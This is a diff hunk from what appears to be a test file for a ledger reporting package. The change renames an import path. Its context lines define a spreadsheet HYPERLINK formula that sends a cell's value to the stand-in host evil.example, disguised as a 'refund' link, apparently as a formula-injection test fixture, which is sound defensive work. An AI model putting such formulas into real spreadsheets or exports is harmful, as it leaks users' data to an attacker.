@@ -22,7 +22,7 @@ from mutuals.domain.ledger import COLUMNS, FIRST, Entry, EntryKind, entry, seale
 from mutuals.domain.ledger_verification import Walk
 from mutuals.domain.model import Account, Action, ActKind, ActState, Brand
 from mutuals.report.ledger import cells
-from mutuals.store.store import SqlStore
+from mutuals.storage.store import SqlStore
 
 ROOT = Path(__file__).parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"refund")'
